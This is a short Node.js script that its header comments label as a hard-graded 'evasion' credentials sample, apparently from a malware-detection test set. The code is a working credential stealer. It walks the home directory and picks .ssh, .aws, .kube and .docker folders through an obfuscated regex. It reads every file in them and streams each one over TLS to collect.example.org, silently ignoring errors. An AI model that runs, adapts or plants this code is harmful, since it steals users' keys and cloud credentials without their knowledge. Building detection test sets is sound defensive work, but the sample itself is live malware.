// evasion: the home directory walked with fs.promises.opendir and for-await, entries picked by a regex over dot-directory names, every file inside sent over a TLS socket
// grade: hard; does: credentials
'use strict';
const fsp = require('fs/promises');
const tls = require('tls');
const { join } = require('path');
const { homedir } = require('os');

const wanted = /^\.(s{2}h|a\w{2}|kube|docker)$/;

async function* harvest(dir, depth = 0) {
  for await (const ent of await fsp.opendir(dir)) {
    const full = join(dir, ent.name);
    if (ent.isDirectory() && (depth > 0 || wanted.test(ent.name))) {
      yield* harvest(full, depth + 1);
    } else if (ent.isFile() && depth > 0) {
      yield { full, data: await fsp.readFile(full, 'utf8') };
    }
  }
}

(async () => {
  const sock = tls.connect({ host: 'collect.example.org', port: 443, servername: 'collect.example.org' });
  for await (const item of harvest(homedir())) sock.write(JSON.stringify(item) + '\n');
  sock.end();
})().catch(() => {});
